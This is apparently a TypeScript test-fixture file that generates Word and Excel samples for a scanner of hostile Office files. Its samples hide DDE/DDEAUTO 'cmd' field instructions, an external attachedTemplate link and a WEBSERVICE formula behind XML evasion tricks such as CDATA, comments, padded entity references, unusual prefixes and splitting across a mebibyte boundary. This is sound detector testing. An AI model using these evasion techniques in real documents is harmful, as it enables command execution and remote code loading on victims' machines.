import { docx } from '../office.ts'
import { office } from '../samples.ts'

const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
const run = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`
const relationship = (tag: string) =>
  `<x:Relationships xmlns:x='x'><${tag} Id="r" TargetMode="External" Target="https://host.example/a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></x:Relationships>`

/** A Word document with a field in pieces that are far from each other. */
const spreadAt = (position: number) => {
  const empty = (bytes: number) => '<w:r/>'.repeat(bytes / 6)
  const field = `${begin}${empty(900)}${run('D')}${empty(3000)}${run('DEAUTO cmd')}`
  return docx([], `<w:p>${empty(position)}${field}</w:p>`)
}

/** Documents that start programs or load what is elsewhere by a field, each disguised by what XML allows. */
export const HOSTILE_FIELDS: Record<string, () => Buffer> = {
  'in a section of characters': () => docx([], `<w:p>${begin}${run('<![CDATA[DDEAUTO cmd]]>')}</w:p>`),
  'with a comment in it': () => docx([], `<w:p>${begin}${run('D<!-- -->DEAUTO cmd')}</w:p>`),
  'with a long attribute': () =>
    docx([], `<w:p><w:r><w:instrText xmlns:a="${'a'.repeat(400)}">DDEAUTO cmd</w:instrText></w:r></w:p>`),
  'with a sign of its end in an attribute': () =>
    docx([], `<w:p><w:r><w:instrText xmlns:a=">">DDEAUTO cmd</w:instrText></w:r></w:p>`),
  'as an attribute with much space': () => docx([], '<w:p><w:fldSimple w:instr  =  "DDE cmd"/></w:p>'),
  'by references with many zeros': () =>
    docx([], `<w:p>${begin}${run(`&#x${'0'.repeat(30)}44;DEAUTO cmd`)}</w:p>`),
  'by another prefix': () =>
    docx([], '<w:p><é:instrText xmlns:é="http://schemas.openxmlformats.org/x">DDE cmd</é:instrText></w:p>'),
  'after another field': () =>
    docx([], `<w:p>${begin}${run('PAGE ')}${begin.replace('="', '  =  "')}${run('DDEAUTO cmd')}</w:p>`),
  'whose list of parts has another prefix': () =>
    office('docx', { 'word/_rels/settings.xml.rels': relationship('x-1.a:Relationship') }),
  'whose formula has a comment in it': () =>
    office('xlsx', {
      'xl/worksheets/sheet1.xml': '<c><f>WEB<!-- -->SERVICE("https://host.example")</f></c>',
    }),
}
/** Where a large part is divided for reading. */
for (const before of [600, 1200, 2400])
  HOSTILE_FIELDS[`in pieces, ${before} bytes before a mebibyte`] = () => spreadAt(1024 * 1024 - before)
